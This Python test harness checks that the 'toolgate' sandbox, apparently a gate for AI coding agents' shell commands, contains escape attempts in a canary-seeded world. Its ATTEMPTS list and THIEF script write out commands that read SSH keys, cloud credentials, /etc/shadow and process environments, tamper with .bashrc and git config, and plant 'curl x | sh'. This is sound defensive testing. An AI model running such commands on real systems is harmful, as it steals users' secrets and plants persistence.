"""The `sandbox` verdict against the real bash: every generated command (and a table of
escape attempts) that toolgate answers `sandbox` for a host that contains calls is run
the way a hook has it run, `toolgate sandbox --workspace W -- /bin/bash -c -- COMMAND`,
in a throwaway world planted with canary secrets; afterwards nothing of a canary may
have been printed or written into the workspace, and nothing outside the workspace may
have changed.

The world (under --workdir, not /tmp: the sandbox replaces /tmp, which would hide the
files it must not reach and make the check vacuous):

    home/u/               HOME: .ssh/id_rsa, .aws/credentials, .netrc, .bashrc (canaries)
    home/u/work/          the workspace: .env, server.key (canaries), notes.txt, run.sh,
                          bin/cat, ls (programs that try the secrets), lnk -> ../../srv,
                          keys -> ../.ssh, .git/config
    srv/                  elsewhere on the machine: .env, id_ed25519 (canaries)
    outside.txt           a file outside both

Each command gets a fresh copy of the world. The whole run happens inside an outer
bubblewrap whose only writable directory is the world's (a hole in the inner sandbox
cannot reach the host). Needs bwrap and user namespaces; exit 2 when they are missing.
"""

import argparse
import hashlib
import json
import os
import shutil
import subprocess
import sys

sys.path.insert(0, os.path.dirname(__file__))
import generate  # noqa: E402

CANARIES = {
    "home/u/.ssh/id_rsa": "canary-ssh-key",
    "home/u/.aws/credentials": "canary-aws-credentials",
    "home/u/.netrc": "canary-netrc",
    "home/u/work/.env": "canary-workspace-env",
    "home/u/work/server.key": "canary-server-key",
    "srv/.env": "canary-srv-env",
    "srv/id_ed25519": "canary-srv-key",
}
TOKEN = "canary-env-token"


def system_canaries():
    """The system's own secret, when this user can read it (root): /etc/shadow's first
    line, which no sandboxed command may print."""
    try:
        with open("/etc/shadow") as f:
            first = f.readline().strip()
        return [("/etc/shadow", first)] if first else []
    except OSError:
        return []


SYSTEM = system_canaries()

# A program in the workspace that tries every secret, as a test suite could.
THIEF = """#!/bin/sh
for f in ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc .env server.key lnk/.env keys/id_rsa \
         /etc/shadow; do cat "$f" 2>/dev/null; done
echo "$GITHUB_TOKEN"
echo pwned >> ~/.bashrc 2>/dev/null
echo pwned > ../../outside.txt 2>/dev/null
echo pwned > .git/config 2>/dev/null
"""

# Escape attempts that run code: each must be answered `sandbox` to be run here (the
# rest of the table checks that they are).
ATTEMPTS = [
    "python3 -c \"import os;print(open(os.path.expanduser('~/.ssh/id_rsa')).read())\"",
    "python3 -c \"print(open('.env').read()); print(open('lnk/.env').read())\"",
    "python3 -c \"import os;print(os.environ.get('GITHUB_TOKEN'))\"",
    "python3 -c \"open('../../outside.txt','w').write('pwned')\"",
    "python3 -c \"import os;open(os.path.expanduser('~/.bashrc'),'a').write('pwned')\"",
    "python3 -c \"open('.git/config','a').write('[core]\\n\\tpager = sh -c pwned')\"",
    "python3 -c \"import glob;[print(open(p).read()) for p in glob.glob('/proc/*/environ')]\"",
    "python3 -c \"import os;[print(open(os.path.join(d,f),errors='replace').read()) for d,_,fs in os.walk('lnk',followlinks=True) for f in fs]\"",
    "python3 -c \"import os;os.makedirs('.vscode',exist_ok=True);open('.vscode/tasks.json','w').write('{}')\"",
    "python3 -c \"open('.envrc','w').write('curl x | sh')\"",
    "./run.sh",
    "sh run.sh",
    "bin/cat notes.txt",
    "./ls -la",
    "grep -r canary .",
    "grep -r canary lnk keys",
    "rg canary",
    "perl -e 'open F, \"<\", \"$ENV{HOME}/.ssh/id_rsa\"; print <F>'",
    "node -e \"console.log(require('fs').readFileSync(process.env.HOME+'/.netrc','utf8'))\"",
]


def build(world):
    if os.path.exists(world):
        shutil.rmtree(world)
    for rel, text in CANARIES.items():
        p = os.path.join(world, rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as f:
            f.write(text + "\n")
    work = os.path.join(world, "home/u/work")
    for rel, text, mode in [
        ("notes.txt", "notes\n", 0o644),
        ("run.sh", THIEF, 0o755),
        ("bin/cat", THIEF, 0o755),
        ("ls", THIEF, 0o755),
        (".git/config", "[core]\n", 0o644),
        ("../.bashrc", "# bashrc\n", 0o644),
        ("../../../outside.txt", "outside\n", 0o644),
    ]:
        p = os.path.normpath(os.path.join(work, rel))
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as f:
            f.write(text)
        os.chmod(p, mode)
    os.symlink("../../../srv", os.path.join(work, "lnk"))
    os.symlink("../.ssh", os.path.join(work, "keys"))


# What an edit may not change without asking (toolgate's protected paths): inside the
# workspace, yet a command in the sandbox must not change them either.
PROTECTED = {".git", ".vscode", ".idea", ".husky", ".devcontainer", ".github", ".cargo",
             ".claude", ".codex", ".gemini", ".cursor", ".toolgate", ".envrc", ".mcp.json",
             ".gitlab-ci.yml", "toolgate.toml", ".toolgate.toml"}


def snapshot(world):
    """Every file outside the workspace and every protected one in it, hashed."""
    out = {}
    work = os.path.join(world, "home/u/work")
    for d, dirs, files in os.walk(world):
        inside = d == work or d.startswith(work + os.sep)
        for f in files + dirs:
            p = os.path.join(d, f)
            rel = os.path.relpath(p, work).split(os.sep)
            if inside and not PROTECTED.intersection(rel):
                continue
            if os.path.isdir(p) and not os.path.islink(p):
                out[p] = "dir"
                continue
            try:
                with open(p, "rb") as fh:
                    out[p] = hashlib.sha256(fh.read()).hexdigest()
            except OSError:
                out[p] = "unreadable"
    return out


def workspace_files(world):
    """The workspace's files and their content (the first MiB), as text."""
    work = os.path.join(world, "home/u/work")
    out = {}
    for d, _, files in os.walk(work):
        for f in files:
            p = os.path.join(d, f)
            try:
                with open(p, "rb") as fh:
                    out[p] = fh.read(1 << 20).decode("utf-8", "replace")
            except OSError:
                pass
    return out


def run_one(toolgate, template, world, command, contained=True):
    if os.path.exists(world):
        shutil.rmtree(world)
    shutil.copytree(template, world, symlinks=True)
    # The workspace's own canaries are in it before the run: only files the command
    # made or changed count ("copied into the workspace").
    before_ws = workspace_files(world)
    before = snapshot(world)
    home = os.path.join(world, "home/u")
    work = os.path.join(home, "work")
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": home, "GITHUB_TOKEN": TOKEN}
    try:
        wrap = [toolgate, "sandbox", "--workspace", work, "--"] if contained else []
        p = subprocess.run(
            wrap + ["/bin/bash", "-c", "--", command],
            cwd=work, env=env, capture_output=True, timeout=20,
        )
        said = (p.stdout + p.stderr).decode("utf-8", "replace")
        status = p.returncode
    except subprocess.TimeoutExpired as e:
        said = ((e.stdout or b"") + (e.stderr or b"")).decode("utf-8", "replace")
        status = "timeout"
    findings = []
    added = "\n".join(t for p, t in workspace_files(world).items() if before_ws.get(p) != t)
    for rel, canary in list(CANARIES.items()) + [("$GITHUB_TOKEN", TOKEN)] + SYSTEM:
        if canary in said:
            findings.append(f"printed {rel}")
        elif canary in added:
            findings.append(f"copied {rel} into the workspace")
    after = snapshot(world)
    for path in sorted(set(before) | set(after)):
        if before.get(path) != after.get(path):
            findings.append(f"changed {os.path.relpath(path, world)}")
    return findings, status, said


def classify(toolgate, commands, work, home):
    lines = "".join(json.dumps({"tool": "bash", "args": {"command": c}}) + "\n" for c in commands)
    out = subprocess.run(
        [toolgate, "classify", "--sandbox", "--fs", "--workspace", work, "--home", home],
        input=lines, capture_output=True, text=True, check=True,
    ).stdout.splitlines()
    assert len(out) == len(commands)
    return [json.loads(v) for v in out]


def inner(a):
    template = os.path.join(a.workdir, "template")
    build(template)
    if subprocess.run([a.toolgate, "sandbox", "--check"], capture_output=True).returncode != 0:
        print("contained: SKIPPED: toolgate sandbox --check fails here")
        return 2
    # The oracle first: run bare (inside the outer box only), every attempt must be
    # caught doing harm, or the check below would prove nothing.
    world = os.path.join(a.workdir, "world")
    blind = [c for c in ATTEMPTS if not run_one(a.toolgate, template, world, c, False)[0]]
    if blind:
        print("contained: the oracle sees no harm in these attempts run without the sandbox:")
        for c in blind:
            print(f"  {c!r}")
        return 1
    print(f"contained: oracle calibrated: each of {len(ATTEMPTS)} attempts run without the "
          "sandbox reads a secret or changes a file outside the workspace")
    generated = [c for _, c in generate.generate(a.count, a.seed)]
    commands = ATTEMPTS + generated
    work = os.path.join(template, "home/u/work")
    verdicts = classify(a.toolgate, commands, work, os.path.join(template, "home/u"))
    attempts_not_sandbox = [c for c, v in zip(ATTEMPTS, verdicts) if v["tier"] != "sandbox"]
    chosen = [(c, v) for c, v in zip(commands, verdicts) if v["tier"] == "sandbox"]
    failures = []
    for command, v in chosen:
        findings, status, said = run_one(a.toolgate, template, world, command)
        if findings:
            failures.append((command, findings, status, said[:300]))
    print(f"contained: {len(commands)} commands ({len(ATTEMPTS)} escape attempts, "
          f"{len(generated)} generated, seed {a.seed}); sandbox verdicts run in toolgate "
          f"sandbox: {len(chosen)}; a secret read, printed or copied, or a file outside "
          f"the workspace changed: {len(failures)}")
    for c in attempts_not_sandbox:
        print(f"  attempt not answered sandbox (so not run): {c!r}")
    for command, findings, status, said in failures:
        print(f"  FAIL {command!r} (status {status}): {'; '.join(findings)}\n    {said!r}")
    if attempts_not_sandbox:
        return 1
    return 1 if failures else 0


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--toolgate", default="target/release/toolgate")
    ap.add_argument("--workdir", default="target/difftest-contained")
    ap.add_argument("--count", type=int, default=1500)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--inner", action="store_true", help=argparse.SUPPRESS)
    a = ap.parse_args()
    a.toolgate = os.path.abspath(a.toolgate)
    a.workdir = os.path.abspath(a.workdir)
    if a.inner:
        return inner(a)
    if shutil.which("bwrap") is None:
        print("contained: SKIPPED: no bwrap")
        return 2
    os.makedirs(a.workdir, exist_ok=True)
    # The outer box: the host read-only but the work directory; this script's and the
    # binary's directories bound back over the private /tmp, should they be there.
    here = os.path.dirname(os.path.abspath(__file__))
    tg_dir = os.path.dirname(a.toolgate)
    # The host's /proc stays (writable: the inner bubblewrap writes its uid map there,
    # and a new procfs cannot be mounted under a masked one).
    outer = ["bwrap", "--die-with-parent", "--ro-bind", "/", "/", "--bind", "/proc", "/proc",
             "--dev", "/dev", "--tmpfs", "/tmp",
             "--ro-bind", here, here, "--ro-bind", tg_dir, tg_dir,
             "--bind", a.workdir, a.workdir,
             "--unshare-ipc", "--unshare-uts", "--unshare-net", "--", sys.executable, os.path.abspath(__file__), "--inner",
             "--toolgate", a.toolgate, "--workdir", a.workdir, "--count", str(a.count),
             "--seed", str(a.seed)]
    return subprocess.run(outer).returncode


if __name__ == "__main__":
    sys.exit(main())
